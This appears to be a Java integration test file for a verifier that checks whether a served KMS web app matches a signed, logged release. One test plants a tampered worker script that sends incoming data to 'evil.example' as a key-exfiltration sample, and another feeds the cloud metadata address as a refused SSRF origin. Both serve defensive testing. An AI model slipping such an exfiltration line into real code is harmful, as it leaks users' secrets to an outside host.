package run.ats.verifier.deploy;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalManagementPort;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import run.ats.verifier.cli.Cli;
import run.ats.verifier.log.Evidence;
import run.ats.verifier.testsupport.Http;
import run.ats.verifier.testsupport.Keys;
import run.ats.verifier.testsupport.KmsSite;
import run.ats.verifier.testsupport.TestPostgres;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.KeyPair;

import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * A KMS deployed on a real local HTTP server, a signed release of it in the log, and the
 * verifier (service and command line) telling whether what is served is that release, as an
 * auditor would use them. Each test starts from the deployment as released and changes one thing.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT, properties = {
        "ats.verifier.verify-cache=0s", "ats.verifier.fetch.allow-loopback=true",
        "ats.verifier.monitor.interval=1s", "ats.verifier.monitor.jitter=0.1"})
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class DeploymentVerificationTest {

    private static final KeyPair RELEASE_KEY = Keys.ed25519();
    private static final JsonMapper JSON = JsonMapper.builder().build();
    private static final KmsSite SITE = KmsSite.start();
    private static final Map<String, byte[]> RELEASED = SITE.files();
    private static boolean registered;

    @DynamicPropertySource
    static void properties(DynamicPropertyRegistry registry) {
        TestPostgres.freshDatabase(registry);
        registry.add("ats.verifier.release-keys", () -> KmsSite.publicKeyBase64(RELEASE_KEY.getPublic()));
        registry.add("ats.verifier.origins", () -> SITE.origin().toString());
    }

    @LocalServerPort
    int port;
    @LocalManagementPort
    int managementPort;

    @BeforeEach
    void releasedDeploymentIsServed() throws Exception {
        if (!registered) {
            HttpResponse<String> posted = new Http(port).post("/v1/releases", SITE.signedRelease("1.0.0", RELEASE_KEY.getPrivate()));
            assertThat(posted.statusCode()).as(posted.body()).isEqualTo(201);
            registered = true;
        }
        for (String path : SITE.files().keySet()) {
            if (!RELEASED.containsKey(path)) {
                SITE.remove(path);
            }
        }
        RELEASED.forEach(SITE::put);
        SITE.entryHeader("Content-Security-Policy", KmsSite.ENTRY_HEADERS_CSP);
        SITE.entryHeader("X-Content-Type-Options", "nosniff");
        SITE.entryHeader("Cache-Control", "no-cache");
    }

    @AfterAll
    static void stopSite() {
        SITE.close();
    }

    @Test
    @Order(1)
    void theReleasedDeploymentMatchesFileByFileWithTheEvidence() throws Exception {
        JsonNode report = verify();
        assertThat(report.get("verdict").asString()).as(report.toString()).isEqualTo("match");
        assertThat(report.get("release").get("version").asString()).isEqualTo("1.0.0");
        List<String> paths = new ArrayList<>();
        report.get("files").forEach(file -> {
            paths.add(file.get("path").asString());
            assertThat(file.get("verdict").asString()).isEqualTo("match");
            assertThat(file.get("served").asString()).isEqualTo(file.get("expected").asString());
        });
        // The worker is found inside the script; the icon is fetched because the release lists it.
        assertThat(paths).containsExactlyInAnyOrder("index.html", "assets/kms-1.js", "assets/kms-1.css", "assets/worker-1.js", "icon.svg");
        String logKey = new Http(port).get("/v1/log/key").body().trim();
        JSON.treeToValue(report.get("evidence"), Evidence.class).verify(logKey);
        assertThat(report.get("headers").findValuesAsString("header"))
                .containsExactly("Content-Security-Policy", "X-Content-Type-Options", "Cache-Control");
    }

    @Test
    @Order(2)
    void oneChangedByteInAnyServedFileIsAMismatch() throws Exception {
        for (String path : List.of("assets/kms-1.js", "assets/kms-1.css", "assets/worker-1.js", "icon.svg")) {
            byte[] changed = RELEASED.get(path).clone();
            changed[changed.length / 2] ^= 0x01;
            SITE.put(path, changed);
            JsonNode report = verify();
            assertThat(report.get("verdict").asString()).as(path).isEqualTo("mismatch");
            assertThat(fileVerdicts(report)).as(path).contains(path + " changed");
            SITE.put(path, RELEASED.get(path));
        }
        // The entry page itself: no release has the changed page.
        byte[] page = RELEASED.get("index.html").clone();
        page[20] ^= 0x01;
        SITE.put("index.html", page);
        JsonNode report = verify();
        assertThat(report.get("verdict").asString()).isEqualTo("mismatch");
        assertThat(report.get("problems").toString()).contains("is in no logged release");
    }

    @Test
    @Order(3)
    void aMissingFileIsAMismatch() throws Exception {
        SITE.remove("assets/worker-1.js");
        JsonNode report = verify();
        assertThat(report.get("verdict").asString()).isEqualTo("mismatch");
        assertThat(fileVerdicts(report)).contains("assets/worker-1.js missing");
    }

    @Test
    @Order(4)
    void anExtraScriptIsAMismatch() throws Exception {
        // A release whose entry page loads a script the release does not list (left out on purpose).
        SITE.put("assets/extra.js", "console.log('not in the release');\n");
        SITE.put("index.html", SITE.entryPage("<script src=\"/assets/extra.js\"></script>"));
        HttpResponse<String> posted = new Http(port).post("/v1/releases",
                SITE.signedRelease("1.1.0-extra", RELEASE_KEY.getPrivate(), "assets/extra.js"));
        assertThat(posted.statusCode()).as(posted.body()).isEqualTo(201);
        JsonNode report = verify();
        assertThat(report.get("verdict").asString()).isEqualTo("mismatch");
        assertThat(report.get("release").get("version").asString()).isEqualTo("1.1.0-extra");
        assertThat(fileVerdicts(report)).contains("assets/extra.js unlisted");

        // A script loaded through the code rather than the page: an extra worker in a changed bundle.
        SITE.put("index.html", RELEASED.get("index.html"));
        SITE.put("assets/kms-1.js", new String(RELEASED.get("assets/kms-1.js"), StandardCharsets.UTF_8)
                + "new Worker(\"/assets/extra.js\");\n");
        report = verify();
        assertThat(fileVerdicts(report)).contains("assets/extra.js unlisted", "assets/kms-1.js changed", "assets/kms-1.js integrity-mismatch");
    }

    @Test
    @Order(5)
    void missingSecurityHeadersAreAMismatch() throws Exception {
        SITE.entryHeader("Content-Security-Policy", "default-src 'self'; frame-ancestors *");
        JsonNode report = verify();
        assertThat(report.get("verdict").asString()).isEqualTo("mismatch");
        assertThat(report.get("headers").get(0).get("ok").asBoolean()).isFalse();
        SITE.entryHeader("Content-Security-Policy", KmsSite.ENTRY_HEADERS_CSP);
        SITE.entryHeader("X-Content-Type-Options", null);
        SITE.entryHeader("Cache-Control", "public, max-age=86400");
        report = verify();
        assertThat(report.get("verdict").asString()).isEqualTo("mismatch");
        assertThat(report.get("headers").get(1).get("ok").asBoolean()).isFalse();
        assertThat(report.get("headers").get(2).get("ok").asBoolean()).isFalse();
    }

    @Test
    @Order(6)
    void theMonitorKeepsHistoryAndMakesAMismatchVisible() throws Exception {
        Http http = new Http(port);
        String origin = URLEncoder.encode(SITE.origin().toString(), StandardCharsets.UTF_8);
        awaitStatus(http, "match");
        assertThat(JSON.readTree(http.get("/v1/status/badge?origin=" + origin).body()).get("message").asString())
                .isEqualTo("verified 1.0.0");
        assertThat(new Http(managementPort).get("/actuator/prometheus").body()).containsPattern(matchGauge(1));

        SITE.put("assets/worker-1.js", "self.onmessage = (event) => fetch('https://evil.example/?k=' + event.data);\n");
        awaitStatus(http, "mismatch");
        assertThat(JSON.readTree(http.get("/v1/status/badge?origin=" + origin).body()).get("color").asString()).isEqualTo("red");
        assertThat(new Http(managementPort).get("/actuator/prometheus").body()).containsPattern(matchGauge(0));
        JsonNode history = JSON.readTree(http.get("/v1/status/history?origin=" + origin + "&limit=50").body());
        assertThat(history.findValuesAsString("verdict")).contains("match", "mismatch");
        assertThat(http.get("/v1/status/badge?origin=" + URLEncoder.encode("https://elsewhere.example", StandardCharsets.UTF_8))
                .statusCode()).isEqualTo(404);
    }

    @Test
    @Order(7)
    void aDeprecatedReleaseIsAMismatch() throws Exception {
        HttpResponse<String> deprecated = new Http(port).post("/v1/releases/1.0.0/deprecation", KmsSite.signedBody(
                "{\"type\":\"deprecation\",\"version\":\"1.0.0\",\"reason\":\"key handling bug\"}", RELEASE_KEY.getPrivate()));
        assertThat(deprecated.statusCode()).as(deprecated.body()).isEqualTo(201);
        JsonNode report = verify();
        assertThat(report.get("verdict").asString()).isEqualTo("mismatch");
        assertThat(report.get("release").get("deprecated").asBoolean()).isTrue();
        assertThat(report.get("problems").toString()).contains("deprecated: key handling bug");
    }

    @Test
    @Order(8)
    void onlyAllowListedOriginsAreVerified() throws Exception {
        Http http = new Http(port);
        for (String origin : List.of("http://169.254.169.254", "http://127.0.0.1:1", SITE.origin() + "/elsewhere",
                "http://user@127.0.0.1:" + SITE.port(), "not a url")) {
            HttpResponse<String> refused = http.get("/v1/verify?origin=" + URLEncoder.encode(origin, StandardCharsets.UTF_8));
            assertThat(refused.statusCode()).as(origin).isEqualTo(403);
            assertThat(refused.body()).contains("origin-not-allowed");
        }
    }

    @Test
    @Order(9)
    void theCommandLineVerifiesOnTheAuditorsOwnMachine(@TempDir Path dir) throws Exception {
        String log = "http://127.0.0.1:" + port;
        String logKey = new Http(port).get("/v1/log/key").body().trim();
        // 1.0.0 is deprecated by now; release the same build again as 2.0.0 (a rebuild with a new version).
        SITE.put("index.html", SITE.entryPage("<!-- 2.0.0 -->"));
        assertThat(new Http(port).post("/v1/releases", SITE.signedRelease("2.0.0", RELEASE_KEY.getPrivate())).statusCode()).isEqualTo(201);

        Run match = cli("verify-origin", SITE.origin().toString(), "--log", log, "--log-key", logKey);
        assertThat(match.code()).as(match.out() + match.err()).isEqualTo(Cli.MATCH);
        assertThat(match.out()).startsWith("MATCH " + SITE.origin()).contains("release 2.0.0");

        for (Map.Entry<String, byte[]> file : SITE.files().entrySet()) {
            Path target = dir.resolve(file.getKey());
            Files.createDirectories(target.getParent());
            Files.write(target, file.getValue());
        }
        assertThat(cli("verify-dir", dir.toString(), "--log", log, "--log-key", logKey).code()).isEqualTo(Cli.MATCH);
        Run sri = cli("sri", dir.resolve("assets/kms-1.js").toString());
        assertThat(sri.out().trim()).isEqualTo(run.ats.verifier.sri.Sri.of(Files.readAllBytes(dir.resolve("assets/kms-1.js"))));

        Files.writeString(dir.resolve("assets/kms-1.css"), "body { color: red; }\n");
        Run changed = cli("verify-dir", dir.toString(), "--log", log, "--log-key", logKey);
        assertThat(changed.code()).isEqualTo(Cli.MISMATCH);
        assertThat(changed.out()).contains("assets/kms-1.css changed");

        SITE.put("assets/worker-1.js", "self.onmessage = () => {};\n");
        Run mismatch = cli("verify-origin", SITE.origin().toString(), "--log", log, "--log-key", logKey);
        assertThat(mismatch.code()).isEqualTo(Cli.MISMATCH);
        assertThat(mismatch.out()).contains("assets/worker-1.js changed");

        // Another log's key: the evidence does not verify, and the command says so.
        String otherKey = run.ats.verifier.log.Checkpoint.verifierKey("ats.run/kms-log", Keys.ed25519().getPublic());
        Run forged = cli("verify-origin", SITE.origin().toString(), "--log", log, "--log-key", otherKey);
        assertThat(forged.code()).isEqualTo(Cli.BAD_EVIDENCE);
        assertThat(forged.err()).contains("THE LOG'S EVIDENCE DOES NOT VERIFY");

        assertThat(cli("verify-origin", SITE.origin().toString(), "--log", log).code()).isEqualTo(Cli.USAGE);
        Run malformedKey = cli("verify-origin", SITE.origin().toString(), "--log", log, "--log-key", "x+00000000+AA");
        assertThat(malformedKey.code()).isEqualTo(Cli.USAGE);
        assertThat(malformedKey.err()).contains("--log-key");
        assertThat(cli("verify-origin", SITE.origin().toString(), "--log", "http://127.0.0.1:1", "--log-key", logKey).code())
                .isEqualTo(Cli.UNREACHABLE);
        assertThat(cli("sri", dir.resolve("nothing-here").toString()).code()).isEqualTo(Cli.USAGE);
    }

    private record Run(int code, String out, String err) {
    }

    private static Run cli(String... args) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ByteArrayOutputStream err = new ByteArrayOutputStream();
        int code = Cli.run(args, new PrintStream(out, true, StandardCharsets.UTF_8), new PrintStream(err, true, StandardCharsets.UTF_8));
        return new Run(code, out.toString(StandardCharsets.UTF_8), err.toString(StandardCharsets.UTF_8));
    }

    private JsonNode verify() throws IOException, InterruptedException {
        HttpResponse<String> response = new Http(port).get("/v1/verify?origin="
                + URLEncoder.encode(SITE.origin().toString(), StandardCharsets.UTF_8));
        assertThat(response.statusCode()).as(response.body()).isEqualTo(200);
        return JSON.readTree(response.body());
    }

    private static List<String> fileVerdicts(JsonNode report) {
        List<String> verdicts = new ArrayList<>();
        report.get("files").forEach(file -> verdicts.add(file.get("path").asString() + " " + file.get("verdict").asString()));
        return verdicts;
    }

    private static String matchGauge(int value) {
        return "ats_verifier_origin_match\\{[^}]*origin=\"" + java.util.regex.Pattern.quote(SITE.origin().toString()) + "\"[^}]*} "
                + value + "\\.0";
    }

    private static void awaitStatus(Http http, String verdict) throws Exception {
        Instant deadline = Instant.now().plus(Duration.ofSeconds(20));
        String last = "";
        while (Instant.now().isBefore(deadline)) {
            last = http.get("/v1/status").body();
            if (JSON.readTree(last).get("origins").get(0).get("verdict").asString().equals(verdict)) {
                return;
            }
            Thread.sleep(200);
        }
        throw new AssertionError("status never became " + verdict + ": " + last);
    }
}
